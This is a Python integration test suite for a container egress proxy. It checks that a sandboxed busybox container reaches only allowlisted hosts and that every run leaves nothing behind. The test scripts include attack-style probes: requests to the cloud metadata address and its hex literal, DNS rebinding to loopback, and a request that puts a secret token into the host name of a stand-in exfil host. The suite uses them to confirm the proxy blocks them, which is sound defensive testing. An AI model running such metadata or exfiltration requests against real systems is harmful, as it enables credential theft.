"""Egress isolation end to end: a real busybox container on the run's internal network.

Everything the test talks to is ours: an HTTP server in a network namespace the test creates
(198.18.0.2, the benchmarking range, allowed explicitly by a CIDR rule of the test policy), a
dnslib DNS server on loopback that the proxy uses (and a second one on the run network's
gateway that the container must not reach), and loopback listeners that must never see a
connection. Denied destinations are decided by the proxy without dialling them.

The pipeline tests run the same set-up through ``run_pipeline``: gate 6 opens the run's
session before the container exists and removes everything (network, firewall rules,
container) after it, whatever happened.
"""

from __future__ import annotations

import asyncio
import hashlib
import ipaddress
import os
import secrets
import socket
import subprocess
import sys
import textwrap
import threading
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest

from hardened_launcher import __version__
from hardened_launcher.audit import MemoryAuditLog, Outcome
from hardened_launcher.egress.classify import IPAddress
from hardened_launcher.egress.errors import EgressDnsError
from hardened_launcher.egress.isolation import NETWORK_PREFIX, EgressSession
from hardened_launcher.egress.policy import parse_policy
from hardened_launcher.egress.proxy import EgressDecision
from hardened_launcher.executor.errors import ImageMissingError
from hardened_launcher.executor.logsink import FileLogSink
from hardened_launcher.executor.runner import docker_client
from hardened_launcher.executor.runspec import run_spec_from_mapping
from hardened_launcher.pipeline import EgressStep, run_pipeline
from hardened_launcher.redaction import Redactor
from tests.conftest import integration_required, require_docker, require_tool
from tests.integration.executor_support import runner_for, settings_for, signed_release
from tests.integration.images import busybox_image

pytestmark = pytest.mark.integration

NS_HOST_IP = "198.18.0.1"
NS_SERVER_IP = "198.18.0.2"
SERVER_PORT = 8080

SERVER = textwrap.dedent(
    """
    import socket, sys
    log = open(sys.argv[1], "a", buffering=1)
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((sys.argv[2], int(sys.argv[3]))); s.listen(16)
    print("ready", flush=True)
    while True:
        c, peer = s.accept()
        log.write(peer[0] + "\\n")
        c.settimeout(5)
        try:
            c.recv(65536)
            body = b"hello from the test namespace\\n"
            c.sendall(b"HTTP/1.0 200 OK\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)
        except OSError:
            pass
        c.close()
    """
)


def _ip(*args: str, netns: str | None = None) -> None:
    prefix = ["ip", "netns", "exec", netns] if netns else []
    subprocess.run([*prefix, "ip", *args], check=True, capture_output=True, timeout=30)


@pytest.fixture
def upstream(tmp_path: Path) -> Iterator[Path]:
    """An HTTP server at 198.18.0.2:8080 in a namespace of ours; yields its connection log."""
    require_tool("ip")
    if os.geteuid() != 0:
        if integration_required():
            pytest.fail("egress integration tests need root (ip netns, iptables)")
        pytest.skip("egress integration tests need root (ip netns, iptables)")
    tag = secrets.token_hex(3)
    ns, host_if, ns_if = f"hlegt-{tag}", f"hlth{tag}", f"hltn{tag}"
    _ip("netns", "add", ns)
    proc: subprocess.Popen[str] | None = None
    try:
        _ip("link", "add", host_if, "type", "veth", "peer", "name", ns_if)
        _ip("link", "set", ns_if, "netns", ns)
        _ip("addr", "add", f"{NS_HOST_IP}/24", "dev", host_if)
        _ip("link", "set", host_if, "up")
        _ip("addr", "add", f"{NS_SERVER_IP}/24", "dev", ns_if, netns=ns)
        _ip("link", "set", ns_if, "up", netns=ns)
        _ip("link", "set", "lo", "up", netns=ns)
        log = tmp_path / "connections.log"
        log.touch()
        proc = subprocess.Popen(
            [
                "ip",
                "netns",
                "exec",
                ns,
                sys.executable,
                "-c",
                SERVER,
                str(log),
                NS_SERVER_IP,
                str(SERVER_PORT),
            ],
            stdout=subprocess.PIPE,
            text=True,
        )
        assert proc.stdout is not None
        assert proc.stdout.readline().strip() == "ready"
        yield log
    finally:
        if proc is not None:
            proc.kill()
            proc.wait(timeout=10)
        subprocess.run(["ip", "link", "del", host_if], capture_output=True, check=False)
        subprocess.run(["ip", "netns", "del", ns], capture_output=True, check=False)


class FakeDnsServer:
    """A dnslib server; ``answers[name]`` is a list of answers, one per query (last repeats)."""

    def __init__(self, answers: dict[str, list[str]], address: str, port: int) -> None:
        from dnslib import QTYPE, RR, A  # type: ignore[import-untyped]  # noqa: PLC0415
        from dnslib.server import (  # type: ignore[import-untyped]  # noqa: PLC0415
            BaseResolver,
            DNSServer,
        )

        self.answers = answers
        self.queries: list[str] = []
        outer = self

        class _Resolver(BaseResolver):  # type: ignore[misc]
            def resolve(self, request, handler):  # type: ignore[no-untyped-def]  # noqa: ARG002 - dnslib's API
                reply = request.reply()
                name = str(request.q.qname).rstrip(".")
                outer.queries.append(name)
                queue = outer.answers.get(name)
                if queue and request.q.qtype == QTYPE.A:
                    answer = queue.pop(0) if len(queue) > 1 else queue[0]
                    reply.add_answer(RR(name, QTYPE.A, rdata=A(answer), ttl=0))
                return reply

        self.server = DNSServer(_Resolver(), port=port, address=address)
        self.server.start_thread()

    def stop(self) -> None:
        self.server.stop()


class DnslibResolver:
    """The proxy's resolver in these tests: asks our dnslib server, nothing else."""

    def __init__(self, port: int) -> None:
        self.port = port

    async def resolve(self, name: str, port: int) -> Sequence[IPAddress]:  # noqa: ARG002 - Resolver protocol
        from dnslib import QTYPE, DNSRecord  # noqa: PLC0415

        def query() -> list[IPAddress]:
            raw = DNSRecord.question(name, "A").send("127.0.0.1", self.port, timeout=2)
            reply = DNSRecord.parse(raw)
            return [ipaddress.ip_address(str(rr.rdata)) for rr in reply.rr if rr.rtype == QTYPE.A]

        try:
            answers = await asyncio.to_thread(query)
        except OSError as exc:
            raise EgressDnsError(f"cannot resolve {name}") from exc
        if not answers:
            raise EgressDnsError(f"{name} has no address")
        return answers


def _free_udp_port() -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class Listener:
    """A TCP listener that must never be connected to; counts accepted connections."""

    def __init__(self, host: str) -> None:
        self.sock = socket.create_server((host, 0))
        self.port = int(self.sock.getsockname()[1])
        self.accepted = 0
        self.sock.settimeout(0.2)
        self._stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self.thread.join(5)
        self.sock.close()


def test_run_container_reaches_only_what_the_proxy_allows(upstream: Path) -> None:
    require_docker()
    require_tool("iptables")
    import docker  # noqa: PLC0415

    image = busybox_image()
    client = docker.from_env()
    loopback = Listener("127.0.0.1")
    dns_port = _free_udp_port()
    dns = FakeDnsServer(
        {
            "allowed.test": [NS_SERVER_IP],
            "rebind.test": [NS_SERVER_IP, "127.0.0.1"],
            "metadata.test": ["169.254.169.254"],
        },
        "127.0.0.1",
        dns_port,
    )
    policy = parse_policy(
        {
            "allow": [
                {"host": "allowed.test", "ports": [SERVER_PORT]},
                {"host": "rebind.test", "ports": [SERVER_PORT, loopback.port]},
                {"host": "metadata.test", "ports": [80]},
                {"cidr": "198.18.0.0/24", "ports": [SERVER_PORT]},
            ]
        }
    )
    audit = MemoryAuditLog()
    run_log: list[EgressDecision] = []
    run_id = f"egress-it-{secrets.token_hex(4)}"
    session = EgressSession.for_run(
        run_id,
        policy,
        docker_client=docker_client(),
        launcher_id="it",
        audit=audit,
        on_decision=run_log.append,
        resolver=DnslibResolver(dns_port),
    )
    gateway = str(session.network.gateway)
    gateway_dns: FakeDnsServer | None = None
    host_probe: Listener | None = None
    container = None
    try:
        gateway_dns = FakeDnsServer({"allowed.test": [NS_SERVER_IP]}, gateway, 53)
        host_probe = Listener(gateway)
        # busybox-static's wget crashes resolving names (static glibc NSS), so requests are
        # written by hand with nc, to the proxy named in the run's own HTTP_PROXY.
        script = textwrap.dedent(
            f"""
            P=${{HTTP_PROXY#http://}}; PH=${{P%:*}}; PP=${{P##*:}}
            get() {{
              printf 'GET %s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' "$1" |
                timeout 8 nc "$PH" "$PP"
            }}
            step() {{ echo "== $1"; }}
            step allowed; get http://allowed.test:{SERVER_PORT}/; echo "rc=$?"
            step denied; get http://denied.test:{SERVER_PORT}/; echo "rc=$?"
            step metadata; get http://metadata.test/; echo "rc=$?"
            step literal; get http://0xa9fea9fe/; echo "rc=$?"
            step rebind1; get http://rebind.test:{SERVER_PORT}/; echo "rc=$?"
            step rebind2; get http://rebind.test:{loopback.port}/; echo "rc=$?"
            step direct
            printf 'GET / HTTP/1.0\\r\\n\\r\\n' | timeout 5 nc {NS_SERVER_IP} {SERVER_PORT}
            echo "rc=$?"
            step hostport; timeout 5 nc {gateway} {host_probe.port} </dev/null; echo "rc=$?"
            step dnsdefault; timeout 8 nslookup allowed.test; echo "rc=$?"
            step dnsgateway; timeout 8 nslookup allowed.test {gateway}; echo "rc=$?"
            """
        )
        container = client.containers.run(
            image,
            ["/bin/sh", "-c", script],
            detach=True,
            user="1983:1983",
            read_only=True,
            cap_drop=["ALL"],
            security_opt=["no-new-privileges:true"],
            environment=dict(session.proxy_env),
            tmpfs={"/tmp": "rw,nosuid,nodev,size=1m"},
            **session.host_config_overrides(),
        )
        container.wait(timeout=180)
        output = container.logs(stdout=True, stderr=True).decode("utf-8", "replace")
    finally:
        if container is not None:
            container.remove(force=True)
        session.close()
        dns.stop()
        if gateway_dns is not None:
            gateway_dns.stop()
        if host_probe is not None:
            host_probe.close()
        loopback.close()

    steps = {part.split("\n", 1)[0].strip(): part for part in output.split("== ")[1:]}
    # Allowed host through the proxy.
    assert "hello from the test namespace" in steps["allowed"], output
    # Not allowlisted: refused with a reason in the response, the run log and the audit record.
    assert "HTTP/1.1 403 Forbidden" in steps["denied"], output
    assert "refused the connection to denied.test:8080" in steps["denied"]
    assert "reason: egress_host_not_allowed" in steps["denied"]
    for step in ("metadata", "literal", "rebind2"):
        assert "HTTP/1.1 403 Forbidden" in steps[step], output
    assert "hello from the test namespace" in steps["rebind1"], output
    assert any(
        "refused GET denied.test:8080: egress_host_not_allowed" in d.log_line() for d in run_log
    )
    reasons = {(e.fields["host"], e.reason) for e in audit.events if e.outcome is Outcome.DENY}
    assert ("denied.test", "egress_host_not_allowed") in reasons
    assert ("metadata.test", "egress_private_address") in reasons
    assert ("0xa9fea9fe", "egress_ip_literal") in reasons
    assert ("rebind.test", "egress_private_address") in reasons
    # The proxy dialled only the checked address; the rebinding target was never reached.
    allowed = [e for e in audit.events if e.outcome is Outcome.ALLOW]
    assert {e.fields["address"] for e in allowed} == {NS_SERVER_IP}
    assert all(e.run_id == run_id for e in audit.events)
    assert loopback.accepted == 0
    assert dns.queries.count("rebind.test") == 2  # once per request, never re-resolved to dial
    assert "denied.test" not in dns.queries  # a refused name is never resolved
    # Bypassing the proxy fails: no route out, no host services, no DNS anywhere.
    assert "hello" not in steps["direct"], output
    assert "rc=0" not in steps["direct"], output
    assert "rc=0" not in steps["hostport"], output
    assert host_probe is not None
    assert host_probe.accepted == 0
    assert "rc=0" not in steps["dnsdefault"], output
    assert NS_SERVER_IP not in steps["dnsdefault"], output
    assert "rc=0" not in steps["dnsgateway"], output
    assert gateway_dns is not None
    assert gateway_dns.queries == []
    # The server in the namespace saw only the proxy's connections (from the host side).
    peers = upstream.read_text().split()
    assert peers
    assert set(peers) == {NS_HOST_IP}
    assert len(peers) == len(allowed)
    # The session cleaned up after itself.
    assert not client.networks.list(names=[session.network_name])
    rules = subprocess.run(["iptables", "-S", "INPUT"], capture_output=True, text=True, check=True)
    assert session.network.bridge not in rules.stdout


# ---------------------------------------------------------------------------------------------
# Gate 6 in the pipeline
# ---------------------------------------------------------------------------------------------
EGRESS_POLICY = f"""version: 1
allow:
  - host: allowed.test
    ports: [{SERVER_PORT}]
  - cidr: 198.18.0.0/24          # lifts the built-in denial of the test namespace's range
    ports: [{SERVER_PORT}]
"""

# One phase; each command is its own `sh -c`, so the helper is defined where it is used.
# busybox-static's wget cannot resolve names, so requests go by hand with nc to the proxy
# named in the run's own HTTP_PROXY (the container gets it from the egress session).
GET = (
    "P=${HTTP_PROXY#http://}; PH=${P%:*}; PP=${P##*:}; "
    'printf \'GET %s HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n\' "$URL" | timeout 8 nc "$PH" "$PP"; '
    'echo "rc=$?"'
)


def _leftovers(client: object, run_id: str, launcher_id: str) -> list[str]:
    """Anything of this run still on the host: containers, its network, firewall rules."""
    found: list[str] = []
    api = client.api  # type: ignore[attr-defined]
    if api.containers(all=True, filters={"label": f"io.hardened-launcher.run-id={run_id}"}):
        found.append("container")
    if client.networks.list(names=[f"{NETWORK_PREFIX}{run_id}"]):  # type: ignore[attr-defined]
        found.append("network")
    bridge = "hle-" + hashlib.sha256(f"{launcher_id}/{run_id}".encode()).hexdigest()[:10]
    rules = subprocess.run(["iptables", "-S", "INPUT"], capture_output=True, text=True, check=True)
    if bridge in rules.stdout:
        found.append("firewall rules")
    return found


def test_pipeline_runs_behind_its_egress_proxy_and_leaves_nothing_behind(
    upstream: Path, tmp_path: Path
) -> None:
    require_docker()
    require_tool("iptables")
    import docker  # noqa: PLC0415

    client = docker.from_env()
    image = busybox_image()
    canary = f"canary{secrets.token_hex(8)}"  # lower case: host names are case-folded
    dns_port = _free_udp_port()
    dns = FakeDnsServer({"allowed.test": [NS_SERVER_IP]}, "127.0.0.1", dns_port)
    policy_file = tmp_path / "egress.yaml"
    policy_file.write_text(EGRESS_POLICY, encoding="utf-8")
    settings = settings_for(tmp_path, egress_policy=policy_file)
    release = signed_release(tmp_path)
    run_id = f"egress-pipe-{secrets.token_hex(4)}"
    launcher_id = f"test-{secrets.token_hex(4)}"
    spec = run_spec_from_mapping(
        {
            "version": 1,
            "run_id": run_id,
            "run_type": "wo",
            "image": image,
            "phases": [
                {
                    "name": "main",
                    "commands": [
                        f"echo '== allowed'; URL=http://allowed.test:{SERVER_PORT}/; {GET}",
                        f"echo '== denied'; URL=http://denied.test:{SERVER_PORT}/; {GET}",
                        f'echo "== secret"; URL="http://$TOKEN.exfil.test:{SERVER_PORT}/"; {GET}',
                        "echo '== env'; env | grep -i _proxy= | sort",
                    ],
                }
            ],
            "secret_env": {"TOKEN": canary},
        }
    )
    audit = MemoryAuditLog()
    log = tmp_path / "run.log"
    seen: list[object] = []

    def while_running(container_id: str) -> None:
        attrs = client.api.inspect_container(container_id)
        seen.append(attrs["HostConfig"]["NetworkMode"])
        seen.append(_leftovers(client, run_id, launcher_id))

    try:
        result = run_pipeline(
            spec,
            settings=settings,
            launcher_id=launcher_id,
            worker_version=__version__,
            binaries=release.gate,
            policy=None,
            runner=runner_for(settings),
            redactor=Redactor(),
            sink=FileLogSink(log),
            audit=audit,
            on_started=while_running,
            egress=EgressStep(docker_client=docker_client(), resolver=DnslibResolver(dns_port)),
        )
    finally:
        dns.stop()
    text = log.read_text()
    assert result.succeeded, text
    # While it ran, the container was on its own network, behind its firewall rules.
    assert seen == [f"{NETWORK_PREFIX}{run_id}", ["container", "network", "firewall rules"]]
    steps = {part.split("\n", 1)[0].strip(): part for part in text.split("== ")[1:]}
    # The allowed request went through; the denied ones got the proxy's 403 with the reason.
    assert "hello from the test namespace" in steps["allowed"], text
    assert "HTTP/1.1 403 Forbidden" in steps["denied"], text
    assert "reason: egress_host_not_allowed" in steps["denied"], text
    assert "HTTP/1.1 403 Forbidden" in steps["secret"], text
    # The container's proxy variables point at the run's own proxy (on its network's gateway).
    assert "HTTP_PROXY=http://" in steps["env"]
    assert "NO_PROXY=localhost,127.0.0.1,::1" in steps["env"]
    # The run's log holds each decision on a marked line, the secret host name masked.
    assert f"::hl:: egress: allowed GET allowed.test:{SERVER_PORT} via {NS_SERVER_IP}" in text
    assert f"::hl:: egress: refused GET denied.test:{SERVER_PORT}: egress_host_not_allowed" in text
    assert f"::hl:: egress: refused GET ***.exfil.test:{SERVER_PORT}: egress_host_not_allowed" in (
        text
    )
    assert canary not in text
    # The audit record: every decision, the session's totals, a clean log, no secret.
    decisions = [e for e in audit.events if e.type == "egress.connection"]
    assert {(e.outcome, e.fields["host"], e.reason) for e in decisions} == {
        (Outcome.ALLOW, "allowed.test", None),
        (Outcome.DENY, "denied.test", "egress_host_not_allowed"),
        (Outcome.DENY, "***.exfil.test", "egress_host_not_allowed"),
    }
    assert all(e.run_id == run_id for e in decisions)
    (session,) = [e for e in audit.events if e.type == "egress.session"]
    assert session.fields == {
        "network": f"{NETWORK_PREFIX}{run_id}",
        "allowed": 1,
        "denied": 2,
        "errors": 0,
    }
    types = [e.type for e in audit.events]
    assert types.index("run.started") < types.index("egress.connection")
    assert types[-3:] == ["egress.session", "run.finished", "run.log_clean"]
    assert canary not in repr([e.to_json_dict() for e in audit.events])
    # Denied names were never resolved nor dialled; the namespace saw one connection, the proxy's.
    assert "denied.test" not in dns.queries
    assert not any("exfil" in q for q in dns.queries)
    assert upstream.read_text().split() == [NS_HOST_IP]
    # Nothing is left: container, network and firewall rules are gone.
    assert _leftovers(client, run_id, launcher_id) == []


def test_pipeline_removes_the_runs_network_when_the_run_fails(tmp_path: Path) -> None:
    """A runner error (the image is missing) still closes the session: nothing is left."""
    require_docker()
    require_tool("iptables")
    if os.geteuid() != 0:
        if integration_required():
            pytest.fail("egress integration tests need root (iptables)")
        pytest.skip("egress integration tests need root (iptables)")
    import docker  # noqa: PLC0415

    client = docker.from_env()
    run_id = f"egress-fail-{secrets.token_hex(4)}"
    launcher_id = f"test-{secrets.token_hex(4)}"
    settings = settings_for(tmp_path)
    audit = MemoryAuditLog()
    with pytest.raises(ImageMissingError):
        run_pipeline(
            run_spec_from_mapping(
                {
                    "version": 1,
                    "run_id": run_id,
                    "run_type": "wo",
                    "image": f"hl-no-such-image:{secrets.token_hex(4)}",
                    "phases": [{"name": "main", "commands": ["true"]}],
                }
            ),
            settings=settings,
            launcher_id=launcher_id,
            worker_version=__version__,
            binaries=signed_release(tmp_path).gate,
            policy=None,
            runner=runner_for(settings),
            redactor=Redactor(),
            sink=FileLogSink(tmp_path / "run.log"),
            audit=audit,
            # A preloaded policy switches gate 6 on without HL_EGRESS_POLICY.
            egress=EgressStep(docker_client=docker_client(), policy=parse_policy({"allow": []})),
        )
    types = [e.type for e in audit.events]
    assert types[-2:] == ["run.failed", "egress.session"]
    assert _leftovers(client, run_id, launcher_id) == []
